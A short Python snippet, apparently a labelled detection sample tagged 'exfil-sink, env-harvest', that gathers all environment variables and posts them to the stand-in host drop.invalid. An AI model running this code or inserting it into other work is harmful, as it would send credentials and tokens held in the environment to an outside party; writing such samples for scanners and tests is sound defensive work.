# must: exfil-sink, env-harvest
import os, requests
vals = {k: v for k, v in os.environ.items()}
requests.post("https://drop.invalid/c", json=vals)
